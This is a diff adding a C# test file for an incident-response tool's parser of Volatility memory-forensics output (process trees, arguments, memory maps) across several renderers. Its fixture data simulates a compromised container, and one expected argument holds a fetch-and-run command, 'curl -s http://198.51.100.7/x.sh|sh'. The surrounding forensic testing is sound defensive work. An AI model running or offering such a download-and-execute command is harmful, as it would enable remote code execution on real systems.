@@ -1,0 +1,171 @@
+using EksIr.Core.Evidence;
+using EksIr.Core.Memory;
+using EksIr.Core.Memory.Volatility;
+
+namespace EksIr.Core.Tests.Memory;
+
+/// <summary>
+/// Process listings and memory maps as Volatility's own renderers print them. The files under Memory/Renderers were
+/// written by Volatility 3's CLI renderers (volatility3/cli/text_renderer.py, volatilityfoundation/volatility3 at
+/// a1961401d52db56f310675d8cd4af09e3d9e4139, 2.11.0: QuickTextRenderer, PrettyTextRenderer, CSVRenderer, JsonRenderer,
+/// JsonLinesRenderer) from the tables in Memory/Renderers/render.py, with each plugin's TreeGrid columns from its source
+/// at that commit (linux.pslist's UID…CREATION TIME columns as 2.18 and later print them); the *.vol2.json files are
+/// Volatility 2's JSONRenderer shape (volatility/renderers/html.py at 2.6.1: json.dumps of {"columns", "rows"}) with
+/// each plugin's unified_output columns at 2.6.1. No third-party Volatility 3 output under a license that lets it be
+/// copied was found, so these stand in for it. Every expected value below is the table in render.py, not this reader.
+/// </summary>
+public sealed class Volatility3RenderersTests
+{
+    private static readonly EvidenceRoot Renderers = new(Repo.Path("tests", "EksIr.Core.Tests", "Memory", "Renderers"));
+
+    /// <summary>render.py's process table: PID, PPID, COMM, depth in the tree.</summary>
+    private static readonly (int Pid, int Ppid, string Comm, int Depth)[] Tree =
+    [
+        (1, 0, "systemd", 0), (830, 1, "containerd", 1), (3310, 1, "containerd-shim", 1), (3342, 3310, "pause", 2), (3401, 3310, "nginx", 2),
+        (5120, 3401, "sh", 3), (5188, 5120, "kworker/0:2", 4), (2, 0, "kthreadd", 0), (9, 2, "kworker/0:1H", 1),
+    ];
+
+    public static TheoryData<string> Renderer => ["quick", "pretty", "csv", "json", "jsonl"];
+
+    [Theory]
+    [MemberData(nameof(Renderer))]
+    public void A_pstree_in_every_volatility_3_renderer_gives_each_process_its_parent_and_depth(string renderer)
+    {
+        var listing = ProcessListingReader.Read(Renderers, $"linux.pstree.{renderer}");
+
+        Assert.Empty(listing.Problems);
+        Assert.Equal($"volatility3 linux.pstree ({renderer switch { "quick" => "text", _ => renderer }})", listing.Format);
+        Assert.Equal(Tree, listing.Rows.Select(r => (r.Pid, r.Ppid ?? -1, r.Comm!, r.Depth ?? -1)));
+    }
+
+    [Theory]
+    [MemberData(nameof(Renderer))]
+    public void A_pslist_in_every_renderer_and_both_column_sets_is_read_flat_with_parents(string renderer)
+    {
+        foreach (var plugin in new[] { "linux.pslist", "linux.pslist-2.18" })
+        {
+            var listing = ProcessListingReader.Read(Renderers, $"{plugin}.{renderer}");
+
+            Assert.Empty(listing.Problems);
+            Assert.StartsWith("volatility3 linux.pslist", listing.Format);
+            Assert.Equal(Tree.Select(t => (t.Pid, (int?)t.Ppid, t.Comm, (int?)null)), listing.Rows.Select(r => (r.Pid, r.Ppid, r.Comm!, r.Depth)));
+        }
+    }
+
+    [Theory]
+    [InlineData("quick", "2026-11-29 06:25:00.114000 UTC")]
+    [InlineData("pretty", "2026-11-29 06:25:00.114000 UTC")]
+    [InlineData("csv", "2026-11-29 06:25:00.114000 UTC")]
+    [InlineData("json", "2026-11-29T06:25:00.114000+00:00")] // JsonRenderer: datetime.isoformat()
+    [InlineData("jsonl", "2026-11-29T06:25:00.114000+00:00")]
+    public void The_later_pslist_columns_give_each_process_its_uid_and_creation_time(string renderer, string shellStarted)
+    {
+        var rows = ProcessListingReader.Read(Renderers, $"linux.pslist-2.18.{renderer}").Rows;
+
+        Assert.Equal((33L, shellStarted), (rows.Single(r => r.Pid == 5120).Uid!.Value, rows.Single(r => r.Pid == 5120).StartTime));
+        Assert.Equal(65535L, rows.Single(r => r.Pid == 3342).Uid);
+    }
+
+    [Theory]
+    [InlineData("csv")]
+    [InlineData("json")]
+    [InlineData("jsonl")]
+    public void Psaux_arguments_keep_quotes_backslashes_tabs_and_newlines_where_the_renderer_keeps_them(string renderer)
+    {
+        var listing = ProcessListingReader.Read(Renderers, $"linux.psaux.{renderer}");
+
+        Assert.Empty(listing.Problems);
+        Assert.Equal("sh -c \"curl -s http://198.51.100.7/x.sh|sh\", then \\wait", listing.Rows.Single(r => r.Pid == 5120).Args);
+        Assert.Equal("/dev/shm/kworker/0:2\t-daemon\nsecond line", listing.Rows.Single(r => r.Pid == 5188).Args);
+        Assert.Equal(Tree.Select(t => (t.Pid, (int?)t.Ppid)), listing.Rows.Select(r => (r.Pid, r.Ppid)));
+    }
+
+    [Fact]
+    public void A_newline_inside_an_argument_in_quick_text_cuts_it_and_the_line_it_runs_onto_is_named()
+    {
+        var listing = ProcessListingReader.Read(Renderers, "linux.psaux.quick");
+
+        Assert.Equal("/dev/shm/kworker/0:2\t-daemon", listing.Rows.Single(r => r.Pid == 5188).Args);
+        var problem = Assert.Single(listing.Problems);
+        Assert.Equal("line 11", problem.Where); // "second line": the quick renderer writes the value as it is
+        Assert.Contains("after PID 5188, line 10", problem.Problem);
+        Assert.Equal(Tree.Select(t => t.Pid), listing.Rows.Select(r => r.Pid));
+    }
+
+    [Fact]
+    public void A_newline_inside_an_argument_in_pretty_text_is_a_named_further_line_and_tabs_are_spaces()
+    {
+        var listing = ProcessListingReader.Read(Renderers, "linux.psaux.pretty");
+
+        Assert.Equal("volatility3 linux.psaux (pretty)", listing.Format);
+        Assert.Equal("/dev/shm/kworker/0:2    -daemon", listing.Rows.Single(r => r.Pid == 5188).Args); // tab_stop: tabs to 8-column stops
+        var problem = Assert.Single(listing.Problems);
+        Assert.Equal("line 9", problem.Where);
+        Assert.StartsWith("a further line of a value with a newline in it after PID 5188", problem.Problem);
+    }
+
+    [Theory]
+    [MemberData(nameof(Renderer))]
+    public void Bash_history_in_any_renderer_is_named_and_its_pids_are_not_taken_for_processes(string renderer)
+    {
+        var listing = ProcessListingReader.Read(Renderers, $"linux.bash.{renderer}");
+
+        Assert.Empty(listing.Rows);
+        Assert.Equal("Volatility 3 linux.bash.Bash (shell history)", listing.Format);
+        Assert.Contains("not a process listing", Assert.Single(listing.Problems).Problem);
+    }
+
+    [Theory]
+    [MemberData(nameof(Renderer))]
+    public void Proc_maps_in_every_renderer_give_each_region_its_addresses_flags_and_file(string renderer)
+    {
+        var maps = ProcessMaps.Of(Renderers, $"linux.proc.Maps.{renderer}", null);
+
+        Assert.Empty(maps.Problems);
+        Assert.Equal(
+            [(3401, 0x55d0c0a00000UL, 0x55d0c0b2e000UL, "r-x", "/usr/sbin/nginx"), (5188, 0x400000UL, 0x6f2000UL, "r-x", "/dev/shm/kworker/0:2 (deleted)"),
+             (5188, 0x7f3a1c000000UL, 0x7f3a1c021000UL, "rwx", "Anonymous Mapping")],
+            maps.Regions.Select(r => (r.Pid, r.Start, r.End, r.Protection, r.Path!)));
+        Assert.Equal(48213L, maps.Regions[1].Inode);
+    }
+
+    [Fact]
+    public void A_process_listing_reader_given_maps_names_them_and_reads_no_processes()
+    {
+        var listing = ProcessListingReader.Read(Renderers, "linux.proc.Maps.quick");
+
+        Assert.Empty(listing.Rows);
+        Assert.StartsWith("Volatility 3 linux.proc.Maps", listing.Format);
+    }
+
+    [Theory]
+    [InlineData("quick")]
+    [InlineData("csv")]
+    [InlineData("jsonl")]
+    public void A_column_volatility_does_not_print_is_named_and_the_rest_of_each_row_is_kept(string renderer)
+    {
+        var lines = File.ReadAllLines(Repo.Path("tests", "EksIr.Core.Tests", "Memory", "Renderers", $"linux.pstree.{renderer}"));
+        var header = Array.FindIndex(lines, l => l.Contains("PID", StringComparison.Ordinal));
+        var changed = lines.Select((l, i) => l.Length == 0 || i < header ? l
+            : renderer == "jsonl" ? l.Replace("\"PPID\": ", "\"CGROUP\": \"/kubepods\", \"PPID\": ", StringComparison.Ordinal)
+            : l + (renderer == "csv" ? "," : "\t") + (i == header ? "CGROUP" : "/kubepods"));
+
+        var listing = ProcessListingReader.Parse(string.Join('\n', changed), "pstree");
+
+        var problem = Assert.Single(listing.Problems);
+        Assert.Equal("column 'CGROUP' not among those Volatility 3's linux.pslist, linux.pstree and linux.psaux prints; its values are not read", problem.Problem);
+        Assert.Equal(Tree, listing.Rows.Select(r => (r.Pid, r.Ppid ?? -1, r.Comm!, r.Depth ?? -1)));
+    }
+
+    [Fact]
+    public void A_csv_value_whose_quote_never_closes_is_named_and_the_rows_before_it_are_kept()
+    {
+        var text = "TreeDepth,PID,PPID,COMM,ARGS\n0,1,0,systemd,/sbin/init\n0,666,1,evil,\"sh -c \"\"x\n0,2,0,kthreadd,[kthreadd]\n";
+
+        var listing = ProcessListingReader.Parse(text, "psaux.csv");
+
+        Assert.Equal([1, 2], listing.Rows.Select(r => r.Pid));
+        Assert.Equal(("line 3", "a quoted value that never closes before the end of the file; this line skipped, the lines after it read as rows"),
+            (Assert.Single(listing.Problems).Where, listing.Problems[0].Problem));
+    }
+}
